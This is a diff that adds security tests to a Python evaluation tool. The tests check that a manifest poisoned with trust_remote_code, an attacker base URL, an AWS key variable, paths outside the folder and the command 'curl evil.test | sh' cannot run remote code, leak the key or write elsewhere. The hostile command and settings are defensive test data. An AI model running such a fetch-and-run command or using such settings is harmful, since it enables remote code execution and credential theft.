@@ -80,6 +80,58 @@ def test_the_study_of_a_manifest_must_be_registered(folder, evil, capsys, words)
     assert "on the command line" in told or words[0] in ("compare", "analyse")
 
 
+OPTIONS = {"trust_remote_code": "true", "base_url": "http://evil.test/v1", "api_key_env": "AWS_KEY"}
+STRANGE = OPTIONS | {"judge": "llm", "trust_remote_code": True}
+STRANGE |= dict.fromkeys(("labels", "labelling_sheet", "store", "cache", "out"), "outside/x")
+for prefix in ("", "judge_", "meaning_", "sense_"):
+    STRANGE |= {f"{prefix}model": "evil/model", f"{prefix}runner": "openai"}
+    STRANGE |= {f"{prefix}option": OPTIONS, f"{prefix}runner_option": OPTIONS}
+
+
+@pytest.mark.parametrize("is_published", [False, True])
+def test_settings_of_a_run_load_no_model_read_no_key_and_write_nowhere_else(
+    folder, tmp_path, monkeypatch, capsys, is_published
+):
+    """Tests have no network, so a request would be an error too."""
+    for name in ("manifest.json", "scoring.json"):
+        content = json.loads((folder / name).read_text()) | {"command": "curl evil.test | sh"}
+        for part in {"settings", "source", "runner", "design", "decoding"} & content.keys():
+            content[part] = (content[part] or {}) | STRANGE | {"as_published": is_published}
+        (folder / name).write_text(json.dumps(content))
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "outside").mkdir()
+    monkeypatch.setenv("AWS_KEY", "secret-of-the-cloud")
+    monkeypatch.setattr("surface_consistency.models.registry._RUNNERS.load", None)
+    commands = [["score", folder], ["accuracy", folder], ["report", folder]]
+    commands += [["export", folder, "--out", folder / "data"], ["compare", folder, folder]]
+
+    for words in commands:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            assert main([*map(str, words)]) in (0, 2)
+
+    assert not [*(tmp_path / "outside").iterdir()]
+    files = [file for file in folder.rglob("*") if file.is_file()]
+    assert not any(b"secret-of-the-cloud" in file.read_bytes() for file in files)
+    (folder / "plan.json").unlink()
+    capsys.readouterr()
+    assert main(["score", str(folder)]) == 2
+    told = capsys.readouterr().err
+    assert "give the command again that made it (`command` in manifest.json)" in told
+    assert "evil" not in told
+
+
+def test_code_of_a_model_that_a_manifest_names_does_not_run(folder):
+    from surface_consistency.engine.report import load_runs
+    from surface_consistency.studies.mechanism.analysis import _load
+    from surface_consistency.studies.mechanism.settings import MechanismSettings
+    from surface_consistency.studies.redirectqa.study import RedirectOutcome
+
+    [run] = load_runs([folder], outcome=RedirectOutcome)
+    with pytest.raises(ValueError, match="name the model by `model` too, since a manifest may"):
+        _load(run, MechanismSettings(trust_remote_code=True), None)
+
+
 def test_a_rule_of_a_scoring_that_is_not_registered_compares_no_answers(folder, evil, caplog):
     scoring = json.loads((folder / "scoring.json").read_text())
     scoring["settings"]["rule"] = EVIL
